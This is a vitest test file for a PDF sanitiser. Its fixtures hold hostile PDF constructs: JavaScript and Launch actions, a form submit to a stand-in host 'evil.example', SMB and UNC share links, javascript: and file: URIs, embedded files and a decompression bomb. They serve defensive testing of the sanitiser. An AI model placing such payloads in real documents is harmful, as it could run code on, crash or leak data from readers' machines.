import { buffer } from 'node:stream/consumers'
import { deflateSync } from 'node:zlib'
import { PDFDocument, PDFRawStream } from '@cantoo/pdf-lib'
import PdfKit from 'pdfkit'
import { extractText, getDocumentProxy } from 'unpdf'
import { describe, expect, it } from 'vitest'
import { pdfOf } from '../../../../test/members/pdf.ts'
import { cleanPdf } from './clean-pdf.ts'

/** Each contains a word that nothing else in these files does. */
const ACTIONS: [string, string][] = [
  ['a script', '<</S/JavaScript/JS(evil)>>'],
  ['a script in a stream', '<</S/JavaScript/JS 20 0 R/X(evil)>>'],
  ['a script whose names are escaped', '<</#53/J#61vaScript/#4aS(evil)>>'],
  ['a program', '<</Type/Action/S/Launch/F(evil.exe)/Win<</F(evil.exe)>>>>'],
  ['a form that is sent', '<</S/SubmitForm/F(https://evil.example)>>'],
  ['a form that is filled from a file', '<</S/ImportData/F(evil.fdf)>>'],
  ['a document elsewhere', '<</S/GoToR/F(\\\\\\\\evil.example\\\\x.pdf)/D[0/Fit]>>'],
  ['an embedded document', '<</S/GoToE/T<</R/C/N(evil)>>>>'],
  ['a film', '<</S/Rendition/OP 0/R<</S/MR/N(evil)>>>>'],
  ['a link to a script', '<</S/URI/URI(javascript:evil\\(\\))>>'],
  ['a link to a file', '<</S/URI/URI(file:///evil)>>'],
  ['a link to a share', '<</S/URI/URI(\\\\\\\\evil.example\\\\x)>>'],
  ['a link written in hexadecimal', `<</S/URI/URI<${Buffer.from('smb://evil').toString('hex')}>/X(evil)>>`],
  ['an action after a harmless one', '<</S/GoTo/D[3 0 R/Fit]/Next[<</S/GoTo/Next<</S/Launch/F(evil)>>>>]>>'],
]
const PLACES: [string, (action: string) => Parameters<typeof pdfOf>[0]][] = [
  ['a link', (action) => ({ page: `/Annots[<</Subtype/Link/Rect[0 0 9 9]/A ${action}>>]` })],
  ['the document', (action) => ({ catalog: `/OpenAction ${action}` })],
  ['the closing document', (action) => ({ catalog: `/AA<</WC ${action}>>` })],
  ['a page', (action) => ({ page: `/AA<</O ${action}>>` })],
  ['a bookmark', (action) => ({ catalog: `/Outlines<</First<</Title(x)/A ${action}>>>>` })],
  ['a field', (action) => ({ catalog: `/AcroForm<</Fields[<</T(x)/FT/Tx/AA<</K ${action}>>>>]>>` })],
  ['a list of names', (action) => ({ catalog: `/Names<</JavaScript<</Names[(x) ${action}]>>>>` })],
  ['an entry of any name', (action) => ({ catalog: `/X[[<</Y ${action}>>]]` })],
]
/** Returns everything a file says, what is compressed in it included. */
async function contentOf(bytes: Uint8Array): Promise<string> {
  const { context } = await PDFDocument.load(bytes, { updateMetadata: false })
  const objects = context
    .enumerateIndirectObjects()
    .map(([, object]) =>
      object instanceof PDFRawStream
        ? `${object.toString()} ${object.getContentsString()}`
        : object.toString(),
    )
  return `${Buffer.from(bytes).toString('latin1')} ${objects.join('\n')}`
}

async function clean(bytes: Uint8Array): Promise<Uint8Array> {
  const cleaned = await cleanPdf({ bytes })
  if (typeof cleaned === 'string') throw new Error(cleaned)
  return cleaned
}

describe.each(ACTIONS)('%s', (_, action) => {
  it.each(PLACES)('is removed from %s', async (_place, placed) => {
    for (const packed of [false, true])
      for (const [asWritten, objects] of [
        [action, ['null']],
        ['10 0 R', [action]],
        ['10 0 R', ['11 0 R', action]],
      ] as [string, string[]][]) {
        const bytes = pdfOf({ ...placed(asWritten), objects, packed })
        const cleaned = await contentOf(await clean(bytes))
        expect(cleaned).not.toMatch(/evil|JavaScript|Launch|\/JS/)
      }
  })
})

const OTHERS: [string, Parameters<typeof pdfOf>[0]][] = [
  ['embedded files', { catalog: '/Names<</EmbeddedFiles<</Names[(x)<</F(x)/EF<</F 10 0 R>>>>]>>>>' }],
  ['a portfolio', { catalog: '/Collection<</View/T/X(evil)>>/AF[<</F(x)/EF<</F 10 0 R>>>>]' }],
  ['a file on a page', { page: '/Annots[<</Subtype/FileAttachment/FS<</F(x)/EF<</F 10 0 R>>>>>>]' }],
  ['a film on a page', { page: '/Annots[<</Subtype/RichMedia/RichMediaContent<</X 10 0 R>>>>]' }],
  ['a sound on a page', { page: '/Annots[10 0 R]', objects: ['<</Subtype/Sound/Sound(evil)>>'] }],
  ['a form that is a program', { catalog: '/AcroForm<</Fields[]/XFA[(template)10 0 R]>>' }],
  [
    'content that is in another file',
    { page: '/Contents 10 0 R', objects: ['<</Length 0/F(evil)>> stream\n\nendstream'] },
  ],
  [
    'a signature, which would not match',
    {
      catalog:
        '/AcroForm<</Fields[<</FT/Sig/T(x)/V<</Type/Sig/ByteRange[0 1 2 3]/X(evil)>>>>]>>/Perms<</X(evil)>>',
    },
  ],
  ['what nothing uses', { objects: ['<</X(evil)>>'] }],
]

it.each(OTHERS)('removes %s', async (_, parts) => {
  const evil = '<</Type/EmbeddedFile/Length 4>> stream\nevil\nendstream'
  const cleaned = await clean(pdfOf({ objects: [evil], ...parts }))
  expect(await contentOf(cleaned)).not.toContain('evil')
  // Another reader opens it.
  expect((await getDocumentProxy(cleaned)).numPages).toBe(1)
})

it('removes former versions of the file, and objects that cannot be read', async () => {
  const former = pdfOf({ catalog: '/X 10 0 R', objects: ['<</X(evil)>>'] })
  const later = '10 0 obj <</X(later)>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n'
  const cleaned = await contentOf(await clean(Buffer.concat([former, Buffer.from(later)])))
  expect(cleaned).toContain('later')
  expect(cleaned).not.toContain('evil')

  const broken = pdfOf({ catalog: '/X[10 0 R]', objects: ['<</X(evil)/Y >> ]] endobj'] })
  expect(await contentOf(await clean(broken))).not.toContain('evil')
})

it('keeps what is to be read: text, pictures, links, bookmarks and what was filled in', async () => {
  const pdf = new PdfKit({ tagged: true, lang: 'en-US' })
  const written = buffer(pdf)
  pdf.fontSize(20).text('Stage plot', { link: 'https://example.com/plot' })
  pdf.outline.addItem('Drums')
  pdf.initForm()
  pdf.formText('band', 72, 200, 200, 20, { value: 'The Gantry' })
  pdf.end()
  const bytes = await written
  const [before, after] = await Promise.all(
    [new Uint8Array(bytes), await clean(bytes)].map(async (file) => {
      const document = await getDocumentProxy(file)
      const page = await document.getPage(1)
      const annotations = await page.getAnnotations()
      return {
        text: await extractText(document, { mergePages: true }),
        outline: (await document.getOutline())?.map(({ title }) => title),
        annotations: annotations.map(({ url, fieldName, fieldValue }) => ({ url, fieldName, fieldValue })),
        marks: await document.getMarkInfo(),
      }
    }),
  )
  expect(after).toEqual(before)
  expect(before).toMatchObject({ text: { text: expect.stringContaining('Stage plot') }, outline: ['Drums'] })
})

it('keeps lists of any length', async () => {
  const cleaned = await clean(pdfOf({ catalog: `/X[${'1 '.repeat(200_000)}]` }))
  expect((await contentOf(cleaned)).match(/(?:1 ){1000}/g)?.length).toBeGreaterThanOrEqual(199)
})

describe('a file that it does not write again', () => {
  const encrypted = (options: object) => {
    const pdf = new PdfKit(options)
    const written = buffer(pdf)
    pdf.text('Load-in at six').end()
    return written
  }

  it('needs a password; one that only restricts what readers may do is read', async () => {
    expect(await cleanPdf({ bytes: await encrypted({ userPassword: 'six' }) })).toBe('locked')
    const restricted = await clean(await encrypted({ ownerPassword: 'six' }))
    const { text } = await extractText(await getDocumentProxy(restricted), { mergePages: true })
    expect(text).toBe('Load-in at six')
  })

  it.each([
    [
      'has no pages',
      Buffer.from('%PDF-1.7\n1 0 obj <</Type/Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF'),
    ],
    ['has no catalog', Buffer.from('%PDF-1.7\n%%EOF')],
    ['isn’t one', Buffer.from('Load-in at six')],
    ['is nested more deeply than any file', pdfOf({ catalog: `/X ${'['.repeat(1_000_000)}` })],
  ])('%s', async (_, bytes) => {
    expect(await cleanPdf({ bytes })).toBe('damaged')
  })

  it('unpacks into more than a server has memory for', async () => {
    const bomb = deflateSync(Buffer.alloc(100_000_000, ' ')).toString('latin1')
    const stream = `<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${bomb.length}>> stream\n${bomb}\nendstream`
    const before = process.memoryUsage.rss()
    const cleaned = await clean(pdfOf({ objects: [stream] }))
    expect(cleaned.length).toBeLessThan(2000)
    expect(process.memoryUsage.rss() - before).toBeLessThan(150_000_000)
  })
})
